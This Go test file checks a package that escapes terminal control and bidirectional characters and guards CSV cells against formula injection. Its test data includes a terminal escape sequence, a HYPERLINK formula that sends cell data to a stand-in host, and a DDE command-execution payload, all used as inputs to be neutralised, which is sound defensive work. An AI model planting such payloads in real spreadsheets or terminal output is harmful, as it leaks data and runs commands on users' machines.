package safetext

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// The characters a file could use against a terminal: the C0 controls ESC
// (0x1B, starts every ANSI/ECMA-48 control sequence), BEL (0x07), NUL,
// CR (returns the cursor: overwrites what was printed), the C1 control CSI
// (U+009B, ECMA-48's one-character ESC [), DEL, and the Unicode
// bidirectional controls RLO (U+202E), LRI (U+2066), PDI (U+2069)
// (Unicode Standard Annex #9, "explicit directional formatting
// characters").
func TestVisible(t *testing.T) {
	cases := map[string]string{
		"PTV_60":                     "PTV_60",
		"Rückenmark 脊髄":              "Rückenmark 脊髄",
		"a\x1b]0;pwned\x07b":         `a\x1b]0;pwned\x07b`,
		"x\x00y\rz\x7f":              `x\x00y\x0dz\x7f`,
		"csi\u009b2J":                `csi\u009b2J`,
		"PTV\u202e06":                `PTV\u202e06`,
		"\u2066iso\u2069":            `\u2066iso\u2069`,
		"two\nlines\tand tab":        `two\nlines\tand tab`,
		"bad \xff\xfe utf8":          `bad \xff\xfe utf8`,
		"zero\u200bwidth\ufeffbom":   `zero\u200bwidth\ufeffbom`,
		"tag \U000e0041 char":        `tag \U000e0041 char`,
		"back\\slash stays as it is": "back\\slash stays as it is",
	}
	for in, want := range cases {
		if got := Visible(in); got != want {
			t.Errorf("Visible(%q) = %q, want %q", in, got, want)
		}
	}
	if got := VisibleLines("a\nb\tc\x1b"); got != "a\nb\tc\\x1b" {
		t.Errorf("VisibleLines kept %q", got)
	}
}

// TestWriter: a stream cut anywhere, even inside a multi-byte character,
// comes out as Visible of the whole, with line feeds kept.
func TestWriter(t *testing.T) {
	in := "ROI Rückenmark\x1b[2J\n脊髄\u202eX\xff end\n"
	want := VisibleLines(in)
	for cut := 0; cut <= len(in); cut++ {
		var out bytes.Buffer
		w := NewWriter(&out)
		for _, part := range []string{in[:cut], in[cut:]} {
			if n, err := w.Write([]byte(part)); err != nil || n != len(part) {
				t.Fatalf("cut %d: wrote %d, %v", cut, n, err)
			}
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		if out.String() != want {
			t.Fatalf("cut %d: %q, want %q", cut, out.String(), want)
		}
	}
	var out bytes.Buffer
	w := NewWriter(&out)
	w.Filter = func(s string) string { return strings.ReplaceAll(s, "secret", "[x]") }
	w.Write([]byte("a secret\x07\n"))
	if out.String() != "a [x]\\x07\n" {
		t.Errorf("filtered: %q", out.String())
	}
}

// TestCSVCell: OWASP's "CSV Injection" page lists =, +, -, @, tab and
// carriage return as the characters a cell must not begin with, and
// recommends a leading apostrophe; the payloads are the and
// OWASP's examples. encoding/csv reads each cell back with the apostrophe
// first.
func TestCSVCell(t *testing.T) {
	bad := []string{`=HYPERLINK("http://x.example/?"&A1,"click")`, `=cmd|' /C calc'!A0`, "+1+1", "-2+3", "@SUM(A1:A9)",
		"\t=1", "\r=1", "\n=1", "\x00x", "  =1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)"}
	good := []string{"PTV_60", "", " ", "Cord PRV", "'quoted", "1+1", "n/a", "[]"}
	var buf bytes.Buffer
	cw := csv.NewWriter(&buf)
	for _, s := range bad {
		c := CSVCell(s)
		if !strings.HasPrefix(c, "'") || c[1:] != s {
			t.Errorf("CSVCell(%q) = %q, want a leading apostrophe", s, c)
		}
		cw.Write([]string{c})
	}
	for _, s := range good {
		if c := CSVCell(s); c != s {
			t.Errorf("CSVCell(%q) = %q, want it unchanged", s, c)
		}
	}
	cw.Flush()
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, r := range recs {
		if r[0] != "'"+bad[i] {
			t.Errorf("row %d read back as %q", i, r[0])
		}
	}
}
